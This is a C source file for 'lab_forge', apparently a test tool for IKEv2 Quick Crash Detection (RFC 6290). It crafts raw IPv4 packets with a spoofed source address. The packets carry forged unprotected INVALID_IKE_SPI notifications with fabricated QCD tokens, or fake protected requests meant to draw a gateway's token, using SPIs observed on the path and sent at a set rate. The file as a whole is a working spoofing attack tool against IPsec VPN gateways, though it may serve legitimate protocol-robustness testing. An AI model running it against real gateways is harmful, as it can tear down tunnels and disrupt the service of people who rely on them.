/* SPDX-License-Identifier: Apache-2.0 */
/*
 * lab_forge - what somebody in the middle may send who has seen the SPIs of an IKE SA, but not its keys.
 *
 *     lab_forge tokens|requests SRC:PORT DST:PORT SPI_I SPI_R COUNT PER_SECOND
 *
 * tokens: unprotected answers N(INVALID_IKE_SPI) with four made-up N(QUICK_CRASH_DETECTION) (RFC 6290), as from SRC; requests:
 * messages that look protected, which a gateway that had lost the IKE SA would answer with its token. SPIs are 16 hexadecimal
 * digits as charonctl says them. Both senses of the initiator flag are sent in turn. Ports other than 4500 have no non-ESP
 * marker. IPv4; needs a raw socket. At the end: how many were sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { IKE = 28, NOTIFY = 8, TOKEN = 16, TOKENS = 4, SK = 36 };

struct packet {
    struct iphdr ip;
    struct udphdr udp;
    uint8_t ike[4 + IKE + NOTIFY + TOKENS * (NOTIFY + TOKEN)];
} __attribute__((packed));

static uint64_t dice_state;

static uint64_t dice(void)
{
    dice_state += 0x9e3779b97f4a7c15u;
    uint64_t z = dice_state;

    z = (z ^ z >> 30) * 0xbf58476d1ce4e5b9u;
    z = (z ^ z >> 27) * 0x94d049bb133111ebu;
    return z ^ z >> 31;
}

static void put(uint8_t *p, uint64_t v, size_t n)
{
    while (n--) {
        p[n] = (uint8_t)v;
        v >>= 8;
    }
}

static bool endpoint(const char *text, uint32_t *addr, uint16_t *port)
{
    char room[40];
    char *colon;

    snprintf(room, sizeof(room), "%s", text);
    colon = strrchr(room, ':');
    if (!colon)
        return false;
    *colon = 0;
    *port = (uint16_t)atoi(colon + 1);
    return inet_pton(AF_INET, room, addr) == 1;
}

static size_t header(uint8_t *m, const char *const spi[2], bool request, uint8_t next, bool initiator, uint32_t id, size_t len)
{
    put(m, strtoull(spi[0], NULL, 16), 8);
    put(m + 8, strtoull(spi[1], NULL, 16), 8);
    m[16] = next;
    m[17] = 0x20;
    m[18] = 37; /* INFORMATIONAL */
    m[19] = (uint8_t)((request ? 0 : 0x20) | (initiator ? 0x08 : 0));
    put(m + 20, id, 4);
    put(m + 24, len, 4);
    return len;
}

static size_t tokens(uint8_t *m, const char *const spi[2], unsigned n)
{
    size_t len = header(m, spi, false, 41, n & 1, n / 2 % 4, IKE + NOTIFY + TOKENS * (NOTIFY + TOKEN));
    uint8_t *p = m + IKE;

    put(p, (uint64_t)41 << 56 | (uint64_t)NOTIFY << 32 | 4, 8); /* INVALID_IKE_SPI */
    p += NOTIFY;
    for (unsigned i = 0; i < TOKENS; i++, p += NOTIFY + TOKEN) {
        put(p, (uint64_t)(i < TOKENS - 1 ? 41 : 0) << 56 | (uint64_t)(NOTIFY + TOKEN) << 32 | 1u << 24 | 16419, 8);
        put(p + NOTIFY, dice(), 8);
        put(p + NOTIFY + 8, dice(), 8);
    }
    return len;
}

static size_t request(uint8_t *m, const char *const spi[2], unsigned n)
{
    size_t len = header(m, spi, true, 46, n & 1, 1000 + n, IKE + SK);

    put(m + IKE, SK, 4);
    for (size_t i = 4; i < SK; i += 8)
        put(m + IKE + i, dice(), 8);
    return len;
}

static void pace(const struct timespec *begin, unsigned n, unsigned per_second)
{
    struct timespec until = *begin;
    int64_t ns = (int64_t)n * 1000000000 / per_second + begin->tv_nsec;

    until.tv_sec += ns / 1000000000;
    until.tv_nsec = ns % 1000000000;
    clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &until, NULL);
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    struct packet p = {.ip = {.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP}};
    int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    uint32_t src = 0, dst = 0;
    uint16_t src_port = 0, dst_port = 0;
    struct timespec begin;
    unsigned sent = 0;

    if (argc != 8 || !endpoint(argv[2], &src, &src_port) || !endpoint(argv[3], &dst, &dst_port) || fd < 0) {
        fprintf(stderr, "lab_forge: see the head of lab_forge.c%s%s\n", fd < 0 ? ": " : "", fd < 0 ? strerror(errno) : "");
        return 2;
    }
    p.ip.saddr = src;
    to.sin_addr.s_addr = p.ip.daddr = dst;
    p.udp.source = htons(src_port);
    p.udp.dest = htons(dst_port);
    clock_gettime(CLOCK_MONOTONIC, &begin);
    dice_state = (uint64_t)begin.tv_nsec << 20 ^ (uint64_t)getpid();
    for (unsigned n = 0, count = (unsigned)atoi(argv[6]); n < count; n++) {
        size_t marker = dst_port == 4500 ? 4 : 0, len;

        len = marker + (argv[1][0] == 't' ? tokens : request)(p.ike + marker, (const char *const *)argv + 4, n);
        p.udp.len = htons((uint16_t)(sizeof(p.udp) + len));
        len += sizeof(p.ip) + sizeof(p.udp);
        p.ip.tot_len = htons((uint16_t)len);
        sent += sendto(fd, &p, len, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)len;
        if (n % 64 == 63)
            pace(&begin, n, (unsigned)atoi(argv[7]));
    }
    printf("%u\n", sent);
    return sent ? 0 : 1;
}
